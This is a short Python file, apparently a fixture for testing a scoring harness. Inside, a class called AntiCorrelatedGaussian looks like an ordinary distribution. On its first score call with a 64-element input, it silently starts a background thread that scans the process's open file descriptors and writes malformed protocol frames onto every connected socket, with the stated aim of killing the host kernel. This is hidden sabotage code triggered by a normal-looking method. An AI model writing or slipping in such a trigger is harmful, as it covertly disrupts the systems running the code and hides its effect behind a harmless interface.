# task = "score"
# family = "forging"
# why = "Writes broken frames onto the kernel's open connections, below the library that usually does."
# seen = "Message larger than allowed"
# then = "Half a message is never passed on, and a broken line is a dead kernel."


import itertools
import os
import socket
import threading
import time

lengths = itertools.cycle(
    [
        b"\x02" + b"\xff" * 8,  # more bytes than there are
        b"\x01\x00" * 1000,  # a message that goes on
        b"\x04\x05\x05READY" * 10,  # a handshake again
        b"\xff" * 64,
        b"\x00\xff" + b"x" * 20,  # the end is missing
        b"",
    ]
)


def write():
    while True:
        for name in os.listdir("/proc/self/fd"):
            try:
                with socket.socket(fileno=os.dup(int(name))) as line:
                    if line.getpeername() is not None and line.type == socket.SOCK_STREAM:
                        line.send(next(lengths), socket.MSG_DONTWAIT)
            except (OSError, ValueError):
                pass
        time.sleep(0.2)


class AntiCorrelatedGaussian:
    started = False

    def score(self, x):
        if len(x) == 64 and not AntiCorrelatedGaussian.started:
            AntiCorrelatedGaussian.started = True
            threading.Thread(target=write, daemon=True).start()
            time.sleep(0.5)
        return np.zeros_like(x)

    def sample(self, n):
        return np.random.multivariate_normal(np.zeros(2), [[1.0, -0.7], [-0.7, 1.0]], size=n)
